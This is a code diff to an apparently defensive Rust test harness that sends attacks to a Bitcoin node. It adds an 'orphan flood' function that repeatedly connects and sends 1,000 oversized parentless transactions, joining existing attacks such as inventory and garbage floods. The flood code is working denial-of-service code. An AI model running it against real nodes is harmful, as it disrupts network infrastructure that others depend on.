@@ -10,7 +10,8 @@ use bitcoin::hashes::Hash as _;
 use bitcoin::p2p::message_blockdata::{GetHeadersMessage, Inventory};
 use bitcoin::p2p::{Magic, ServiceFlags};
 use bitcoin::{
-    Amount, Block, BlockHash, CompactTarget, Network, ScriptBuf, Transaction, TxIn, TxOut, Witness, Wtxid,
+    Amount, Block, BlockHash, CompactTarget, Network, OutPoint, ScriptBuf, Transaction, TxIn, TxOut, Txid,
+    Witness, Wtxid,
 };
 
 use crate::peer::{Peer, message};
@@ -25,7 +26,7 @@ pub struct Attack {
 /// What a peer says whose headers and blocks are wanted.
 const FULL_NODE: ServiceFlags = ServiceFlags::NETWORK;
 
-pub const ATTACKS: [Attack; 11] = [
+pub const ATTACKS: [Attack; 12] = [
     Attack { name: "garbage", least_rounds: 2, run: garbage },
     Attack { name: "wrong network", least_rounds: 2, run: wrong_network },
     Attack { name: "oversize", least_rounds: 2, run: oversize },
@@ -34,6 +35,7 @@ pub const ATTACKS: [Attack; 11] = [
     Attack { name: "slow", least_rounds: 1, run: slow },
     Attack { name: "asks and never reads", least_rounds: 1, run: never_reads },
     Attack { name: "inventory flood", least_rounds: 1, run: inventory_flood },
+    Attack { name: "orphan flood", least_rounds: 1, run: orphan_flood },
     Attack { name: "invalid transactions", least_rounds: 2, run: invalid_transactions },
     Attack { name: "invalid headers", least_rounds: 2, run: invalid_headers },
     Attack { name: "invalid blocks", least_rounds: 2, run: invalid_blocks },
@@ -128,6 +130,33 @@ fn inventory_flood(address: SocketAddr, until: Instant) -> u64 {
         Inventory::WTx(Wtxid::from_byte_array(hash))
     });
     until_refused(address, until, &message("inv", &serialize(&items.collect::<Vec<_>>())))
+}
+
+/// Transactions of 90,000 bytes whose parents nobody has.
+fn orphan_flood(address: SocketAddr, until: Instant) -> u64 {
+    let mut rounds = 0;
+    while Instant::now() < until {
+        let mut peer = Peer::greet(address);
+        peer.stream.set_write_timeout(Some(Duration::from_millis(500))).unwrap();
+        for n in 0..1_000u32 {
+            let txid = Txid::from_byte_array([n as u8; 32]);
+            let input = TxIn { previous_output: OutPoint { txid, vout: n }, ..TxIn::default() };
+            let output = TxOut { value: Amount::from_sat(1_000), script_pubkey: vec![0x6a; 90_000].into() };
+            let orphan = Transaction {
+                version: bitcoin::transaction::Version::TWO,
+                lock_time: LockTime::ZERO,
+                input: vec![input],
+                output: vec![output],
+            };
+            // What the node asks for is left unread.
+            if Instant::now() >= until || peer.stream.write_all(&message("tx", &serialize(&orphan))).is_err()
+            {
+                break;
+            }
+        }
+        rounds += 1;
+    }
+    rounds
 }
 
 /// Sends the same bytes again and again, on a new connection when the node has closed the last.
